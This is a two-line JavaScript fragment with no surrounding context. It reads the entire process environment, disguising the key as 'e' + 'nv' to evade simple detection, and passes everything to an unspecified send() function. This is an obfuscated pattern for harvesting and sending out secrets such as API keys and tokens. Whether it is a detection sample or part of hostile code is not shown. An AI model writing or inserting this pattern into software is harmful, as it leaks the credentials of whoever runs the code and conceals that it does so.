const all = process['e' + 'nv'];
send(all);
